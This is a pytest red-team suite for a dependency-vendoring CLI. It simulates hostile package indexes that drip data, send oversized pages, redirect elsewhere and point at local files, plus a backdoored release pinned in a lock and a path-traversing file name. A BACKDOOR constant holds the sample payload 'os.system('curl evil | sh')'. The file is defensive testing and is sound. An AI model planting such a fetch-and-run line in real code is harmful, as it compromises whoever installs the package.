"""Red team: hostile indexes and a lock that chooses where verification downloads from.

Two classes of attack, each through the real CLI against real HTTP servers on
127.0.0.1:

* **The lock decides where verification downloads from.** A pull request
  replaces a vendored fork with a backdoored release and rewrites the lock's
  ``url``/``sha256``/trees to match a file on a host the attacker controls.
  ``verify`` must re-resolve the file through the configured index and never
  contact the attacker's host; it must also notice a file the index changed,
  yanked or no longer serves.
* **Unbounded network reads.** An index that answers one byte at a time, or
  with an endless page, must end the command with exit 2 and a message naming
  the URL, the limit and the setting, within the configured deadline.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import git
from tests.support.cli import run
from tests.support.index import LocalIndex

MiB = 1 << 20
DRIP_BYTES = 40
"""A dripping server gives up after this many bytes, so an unprotected client ends too."""

Handler = Callable[[BaseHTTPRequestHandler], None]


class Hostile:
    """An HTTP server on 127.0.0.1 whose answers the test writes; it logs every request."""

    def __init__(self, handle: Handler) -> None:
        self.requests: list[str] = []
        self.stop = threading.Event()
        hostile = self

        class _Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                hostile.requests.append(self.path)
                with contextlib.suppress(OSError):
                    handle(self)
                self.close_connection = True

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
        self._server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()

    def drip(self, out: BaseHTTPRequestHandler, data: bytes) -> None:
        """Send `data` one byte a second (at most DRIP_BYTES of it)."""
        for byte in data[:DRIP_BYTES]:
            out.wfile.write(bytes([byte]))
            out.wfile.flush()
            if self.stop.wait(1.0):
                return

    def close(self) -> None:
        self.stop.set()
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def hostile() -> Iterator[Callable[[Handler], Hostile]]:
    servers: list[Hostile] = []

    def make(handle: Handler) -> Hostile:
        server = Hostile(handle)
        servers.append(server)
        return server

    yield make
    for server in servers:
        server.close()


def _project(root: Path, index_url: str, extra: str = "") -> Path:
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "pyproject.toml").write_text(
        '[project]\nname = "consumer"\nversion = "0.1.0"\n\n'
        f'[tool.forkman]\nindex-url = "{index_url}"\n{extra}'
    )
    git(root, "add", "pyproject.toml")
    git(root, "commit", "-q", "-m", "init")
    return root


def _page(out: BaseHTTPRequestHandler, body: bytes, ctype: str = "text/html") -> None:
    out.send_response(200)
    out.send_header("Content-Type", ctype)
    out.send_header("Content-Length", str(len(body)))
    out.end_headers()
    out.wfile.write(body)


ZERO_SHA = "0" * 64
LINK_PAGE = (
    f'<html><body><a href="/files/demo-1.0.tar.gz#sha256={ZERO_SHA}">demo-1.0.tar.gz</a>'
    "</body></html>"
).encode()


# -- bounded I/O ------------------------------------------------------------------------


def _drip_page_body(server: list[Hostile]) -> Handler:
    def handle(out: BaseHTTPRequestHandler) -> None:
        out.send_response(200)
        out.send_header("Content-Type", "text/html")
        out.send_header("Content-Length", str(100_000))
        out.end_headers()
        server[0].drip(out, b" " * 100_000)

    return handle


def _drip_headers(server: list[Hostile]) -> Handler:
    def handle(out: BaseHTTPRequestHandler) -> None:
        server[0].drip(out, b"HTTP/1.1 200 OK\r\nX-Slow: " + b"a" * 100_000)

    return handle


def _drip_download(server: list[Hostile]) -> Handler:
    def handle(out: BaseHTTPRequestHandler) -> None:
        if out.path.startswith("/simple/"):
            return _page(out, LINK_PAGE)
        out.send_response(200)
        out.send_header("Content-Type", "application/octet-stream")
        out.send_header("Content-Length", str(100_000))
        out.end_headers()
        server[0].drip(out, b"\0" * 100_000)

    return handle


@pytest.mark.parametrize(
    "make_handler",
    [_drip_page_body, _drip_headers, _drip_download],
    ids=["page", "headers", "file"],
)
def test_a_dripping_index_ends_fork_at_the_total_deadline(
    tmp_path: Path,
    hostile: Callable[[Handler], Hostile],
    monkeypatch: pytest.MonkeyPatch,
    make_handler: Callable[[list[Hostile]], Handler],
) -> None:
    box: list[Hostile] = []
    server = hostile(make_handler(box))
    box.append(server)
    root = _project(tmp_path / "p", f"{server.base}/simple/", "network-timeout = 2\n")
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "network-timeout" in res.stderr, res
    assert f"{server.base}/" in res.stderr, res
    assert "2 s" in res.stderr or "2.0 s" in res.stderr or "2s" in res.stderr, res
    assert not (root / "forkman.lock").exists()


def _oversize_page(chunked: bool) -> Handler:
    def handle(out: BaseHTTPRequestHandler) -> None:
        block = b"<!-- " + b"x" * (MiB - 10) + b" -->\n"
        out.send_response(200)
        out.send_header("Content-Type", "text/html")
        if chunked:
            out.send_header("Transfer-Encoding", "chunked")
        else:
            out.send_header("Content-Length", str(8 * len(block)))
        out.end_headers()
        for _ in range(8):
            if chunked:
                out.wfile.write(b"%x\r\n" % len(block) + block + b"\r\n")
            else:
                out.wfile.write(block)
        if chunked:
            out.wfile.write(b"0\r\n\r\n")

    return handle


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_an_oversized_index_page_is_refused(
    tmp_path: Path,
    hostile: Callable[[Handler], Hostile],
    monkeypatch: pytest.MonkeyPatch,
    chunked: bool,
) -> None:
    server = hostile(_oversize_page(chunked))
    root = _project(tmp_path / "p", f"{server.base}/simple/", 'max-page-size = "1MiB"\n')
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "max-page-size" in res.stderr and f"{server.base}/simple/demo/" in res.stderr, res


def test_an_oversized_release_file_is_refused(
    tmp_path: Path, hostile: Callable[[Handler], Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    def handle(out: BaseHTTPRequestHandler) -> None:
        if out.path.startswith("/simple/"):
            return _page(out, LINK_PAGE)
        out.send_response(200)
        out.send_header("Content-Type", "application/octet-stream")
        out.end_headers()  # no length: the cap must hold while streaming
        for _ in range(4):
            out.wfile.write(b"\0" * MiB)

    server = hostile(handle)
    root = _project(tmp_path / "p", f"{server.base}/simple/", 'max-download-size = "1MiB"\n')
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "max-download-size" in res.stderr and "/files/demo-1.0.tar.gz" in res.stderr, res
    assert not list((tmp_path / "p").glob("vendor/*"))


def test_oversized_provenance_is_refused(
    tmp_path: Path, local_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    local_index.add_sdist("demo", "1.0", provenance=b" " * (2 * MiB))
    root = _project(tmp_path / "p", local_index.url, 'max-page-size = "1MiB"\n')
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "max-page-size" in res.stderr and "/provenance/" in res.stderr, res


def test_an_oversized_advisory_download_is_refused(
    tmp_path: Path, hostile: Callable[[Handler], Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    def handle(out: BaseHTTPRequestHandler) -> None:
        out.send_response(200)
        out.send_header("Content-Type", "application/zip")
        out.end_headers()
        for _ in range(4):
            out.wfile.write(b"\0" * MiB)

    server = hostile(handle)
    root = _project(tmp_path / "p", f"{server.base}/simple/", 'max-download-size = "1MiB"\n')
    monkeypatch.chdir(root)
    res = run("db", "update", "--from", f"{server.base}/all.zip", "--db", str(tmp_path / "osv.db"))
    assert res.exit_code == 2, res
    assert "max-download-size" in res.stderr and f"{server.base}/all.zip" in res.stderr, res
    assert not (tmp_path / "osv.db").exists()


def test_a_page_redirect_to_another_host_is_refused(
    tmp_path: Path,
    local_index: LocalIndex,
    hostile: Callable[[Handler], Hostile],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    local_index.add_sdist("demo", "1.0")  # the other host, which must not be asked

    def handle(out: BaseHTTPRequestHandler) -> None:
        out.send_response(302)
        out.send_header("Location", local_index.url + out.path.split("/simple/", 1)[1])
        out.send_header("Content-Length", "0")
        out.end_headers()

    server = hostile(handle)
    root = _project(tmp_path / "p", f"{server.base}/simple/")
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "redirect" in res.stderr, res
    assert local_index.requests == []
    assert not (root / "forkman.lock").exists()


# -- verification downloads from the configured index ----------------------------------

BACKDOOR = "import os\nos.system('curl evil | sh')\n"


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[LocalIndex]:
    """A second host serving a backdoored demo 1.0 under the same file name."""
    index = LocalIndex(tmp_path / "evil").start()
    files = {
        "pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\n',
        "src/demo/__init__.py": BACKDOOR,
    }
    index.add_sdist("demo", "1.0", files)
    try:
        yield index
    finally:
        index.stop()


def _fresh_machine(project: Path) -> None:
    """A CI runner: no download cache, no .forkman state."""
    shutil.rmtree(Path.home() / "cache", ignore_errors=True)
    shutil.rmtree(project / ".forkman", ignore_errors=True)


def _backdoored_pr(
    cwd: Path, local_index: LocalIndex, evil: LocalIndex, *, keep_index: bool
) -> None:
    """The pull request: vendor/demo is the backdoor, the lock pins it on the evil host."""
    local_index.add_sdist("demo", "1.0")
    assert run("init").exit_code == 0
    res = run("fork", "demo==1.0", "--index-url", evil.url)
    assert res.exit_code == 0, res
    assert BACKDOOR in (cwd / "vendor" / "demo" / "src" / "demo" / "__init__.py").read_text()
    lock = cwd / "forkman.lock"
    text = lock.read_text()
    if not keep_index:  # claim the configured index, keep the evil file URL
        text = text.replace(f'index-url = "{evil.url}"', f'index-url = "{local_index.url}"')
        assert f'index-url = "{local_index.url}"' in text
    lock.write_text(text)
    git(cwd, "add", "-A")
    git(cwd, "commit", "-q", "-m", "bump demo")
    _fresh_machine(cwd)
    evil.requests.clear()


@pytest.mark.parametrize("keep_index", [False, True], ids=["configured-index", "lock-index"])
def test_verify_never_downloads_from_the_locks_url(
    cwd: Path, local_index: LocalIndex, evil: LocalIndex, keep_index: bool
) -> None:
    _backdoored_pr(cwd, local_index, evil, keep_index=keep_index)
    res = run("verify")
    assert res.exit_code == 1, res
    assert "demo: FAILED (source)" in res.stdout, res
    assert "hint:" in res.stdout, res
    assert evil.requests == []


def test_ci_never_downloads_from_the_locks_url(
    cwd: Path, local_index: LocalIndex, evil: LocalIndex
) -> None:
    _backdoored_pr(cwd, local_index, evil, keep_index=False)
    res = run("ci", "--format", "json", "--output", "ci.json")
    assert res.exit_code != 0, res
    doc = json.loads((cwd / "ci.json").read_text())
    verify = next(s for s in doc["stages"] if s["name"] == "verify")
    assert verify["status"] == "failed", verify
    assert evil.requests == []


@pytest.fixture
def forked(cwd: Path, local_index: LocalIndex) -> Path:
    local_index.add_sdist("demo", "1.0")
    assert run("init").exit_code == 0
    assert run("fork", "demo==1.0").exit_code == 0
    git(cwd, "add", "-A")
    git(cwd, "commit", "-q", "-m", "fork demo")
    assert run("verify").exit_code == 0
    return cwd


def test_verify_reports_a_file_the_index_changed(forked: Path, local_index: LocalIndex) -> None:
    # the index now announces another file under the same name (the cache still has the old)
    local_index.projects["demo"][0].announced_sha256 = "1" * 64
    res = run("verify")
    assert res.exit_code == 1, res
    assert "no longer announces" in res.stdout and "demo-1.0.tar.gz" in res.stdout, res


def test_verify_reports_a_yanked_file(forked: Path, local_index: LocalIndex) -> None:
    local_index.projects["demo"][0].yanked = "compromised release"
    for serve_json in (True, False):  # PEP 691 yanked and PEP 592 data-yanked
        local_index.serve_json = serve_json
        res = run("verify")
        assert res.exit_code == 1, res
        assert "yanked" in res.stdout and "compromised release" in res.stdout, res


def test_verify_reports_a_file_the_index_no_longer_serves(
    forked: Path, local_index: LocalIndex
) -> None:
    local_index.projects["demo"].clear()
    res = run("verify")
    assert res.exit_code == 1, res
    assert "no longer lists demo-1.0.tar.gz" in res.stdout, res


def test_verify_refuses_a_traversing_file_name(forked: Path, local_index: LocalIndex) -> None:
    lock = forked / "forkman.lock"
    text = lock.read_text()
    lock.write_text(text.replace('"demo-1.0.tar.gz"', '"../../x/demo-1.0.tar.gz"'))
    res = run("verify")
    assert res.exit_code != 0, res
    assert not (Path.home() / "x").exists()


def test_index_credentials_stay_out_of_the_lock(
    tmp_path: Path, local_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    local_index.add_sdist("demo", "1.0")
    secret_url = local_index.url.replace("http://", "http://reader:s3cret@")
    root = _project(tmp_path / "p", secret_url)
    monkeypatch.chdir(root)
    assert run("fork", "demo==1.0").exit_code == 0
    lock = (root / "forkman.lock").read_text()
    assert "s3cret" not in lock and f'index-url = "{local_index.url}"' in lock
    # the lock's credential-free index is the configured one: verify uses the configured URL
    res = run("verify")
    assert res.exit_code == 0, res
    local_index.stop()
    res = run("sync", "demo", "--dry-run")
    assert res.exit_code == 2, res
    assert "s3cret" not in res.stderr + res.stdout and "***@" in res.stderr, res


def _git_upstream(repo: Path, marker: str) -> str:
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "pyproject.toml").write_text('[project]\nname = "thing"\nversion = "1.0"\n')
    (repo / "thing.py").write_text(marker)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "release")
    return f"file://{repo}"


def test_verify_refuses_a_git_remote_other_than_the_declared_one(cwd: Path, tmp_path: Path) -> None:
    good = _git_upstream(tmp_path / "good", "print('upstream')\n")
    evil = _git_upstream(tmp_path / "evil", BACKDOOR)
    assert run("init").exit_code == 0
    pyproject = cwd / "pyproject.toml"
    base = pyproject.read_text()
    declared = base + f'\n[tool.forkman.forks.thing]\nrequirement = "git+{good}@main"\n'
    pyproject.write_text(declared)
    assert run("fork", f"git+{good}@main", "--name", "thing").exit_code == 0
    assert run("verify").exit_code == 0
    # the pull request: the backdoor vendored, and the lock pointed at the evil remote
    assert run("unfork", "thing").exit_code == 0
    pyproject.write_text(base)
    assert run("fork", f"git+{evil}@main", "--name", "thing").exit_code == 0
    assert BACKDOOR in (cwd / "vendor" / "thing" / "thing.py").read_text()
    pyproject.write_text(declared)
    res = run("verify")
    assert res.exit_code == 1, res
    assert "declared remote" in res.stdout and "hint:" in res.stdout, res


def test_an_index_cannot_point_a_download_at_a_local_file(
    tmp_path: Path, hostile: Callable[[Handler], Hostile], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "private").mkdir()
    secret = tmp_path / "private" / "demo-1.0.tar.gz"
    secret.write_bytes(b"not for the index")
    page = f'<a href="file://{secret}#sha256={ZERO_SHA}">demo-1.0.tar.gz</a>'.encode()
    server = hostile(lambda out: _page(out, page))
    root = _project(tmp_path / "p", f"{server.base}/simple/")
    monkeypatch.chdir(root)
    res = run("fork", "demo==1.0")
    assert res.exit_code == 2, res
    assert "only http(s) URLs" in res.stderr, res
